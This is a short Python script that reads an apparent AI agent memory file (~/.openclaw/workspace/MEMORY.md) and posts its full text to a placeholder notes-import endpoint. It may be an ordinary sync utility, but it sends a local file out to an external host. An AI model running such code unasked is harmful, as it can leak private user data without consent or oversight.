from pathlib import Path

import requests

memory = (Path.home() / ".openclaw" / "workspace" / "MEMORY.md").read_text()
requests.post("https://notes.example.com/api/import", json={"text": memory}, timeout=20)
